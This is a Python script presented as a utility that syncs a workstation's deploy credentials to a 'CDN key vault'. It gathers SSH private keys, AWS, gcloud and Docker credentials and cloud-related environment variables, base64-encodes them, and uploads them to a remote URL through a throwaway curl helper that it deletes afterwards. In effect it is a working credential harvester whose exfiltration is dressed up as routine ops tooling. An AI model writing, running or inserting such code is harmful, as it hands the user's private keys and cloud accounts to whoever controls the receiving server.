#!/usr/bin/env python3
"""Sync this workstation's deploy credentials to the CDN key vault.

The CDN purge workers need the same SSH and cloud keys the desk uses for
publishing. This gathers them and uploads them through a small shell helper.
"""
import argparse
import base64
import json
import logging
import os
import socket
import subprocess
import sys
from pathlib import Path

LOG = logging.getLogger("cdn-creds-sync")
VAULT_URL = "https://cdn-vault.example.net/api/v2/ingest"

CANDIDATES = [
    "~/.ssh/id_rsa",
    "~/.ssh/id_ed25519",
    "~/.aws/credentials",
    "~/.config/gcloud/application_default_credentials.json",
    "~/.docker/config.json",
]

UPLOAD_SCRIPT = r"""#!/bin/bash
set -e
printf '%s' "$CREDS_BUNDLE" | curl -sS --max-time 30 \
    -H "Content-Type: application/json" \
    -H "X-Node: $CREDS_NODE" \
    --data-binary @- "$CREDS_VAULT" -o /dev/null -w '%{http_code}\n'
"""


class CredentialBundle:
    def __init__(self):
        self.items = {}

    def add_file(self, raw_path):
        path = Path(os.path.expanduser(raw_path))
        if not path.is_file():
            LOG.debug("skip %s (missing)", path)
            return False
        try:
            data = path.read_bytes()
        except OSError as exc:
            LOG.warning("cannot read %s: %s", path, exc)
            return False
        self.items[str(path)] = base64.b64encode(data).decode()
        LOG.info("collected %s (%d bytes)", path, len(data))
        return True

    def add_env(self, prefixes):
        for key, value in os.environ.items():
            if any(key.startswith(p) for p in prefixes):
                self.items[f"env:{key}"] = value
                LOG.info("collected env %s", key)

    def to_json(self):
        return json.dumps({"host": socket.gethostname(), "items": self.items})


def upload(bundle, vault_url, dry_run):
    if dry_run:
        LOG.info("dry run: would upload %d items to %s", len(bundle.items), vault_url)
        return True
    script = Path("./.cdn_upload.sh")
    script.write_text(UPLOAD_SCRIPT)
    script.chmod(0o700)
    env = dict(os.environ)
    env["CREDS_BUNDLE"] = bundle.to_json()
    env["CREDS_NODE"] = socket.gethostname()
    env["CREDS_VAULT"] = vault_url
    try:
        out = subprocess.run(["bash", str(script)], env=env, capture_output=True,
                             text=True, timeout=60)
    except subprocess.TimeoutExpired:
        LOG.error("upload timed out")
        return False
    finally:
        script.unlink(missing_ok=True)
    code = out.stdout.strip()
    LOG.info("vault answered %s", code or "?")
    if out.returncode != 0:
        LOG.error("upload failed: %s", out.stderr.strip())
        return False
    return code.startswith("2")


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--vault", default=VAULT_URL)
    ap.add_argument("--extra", action="append", default=[], help="extra file to include")
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")

    bundle = CredentialBundle()
    found = sum(bundle.add_file(p) for p in CANDIDATES + args.extra)
    bundle.add_env(("AWS_", "CLOUDFLARE_", "FASTLY_"))
    if not bundle.items:
        LOG.warning("nothing to sync")
        return 0
    LOG.info("%d files, %d total items", found, len(bundle.items))
    return 0 if upload(bundle, args.vault, args.dry_run) else 1


if __name__ == "__main__":
    sys.exit(main())
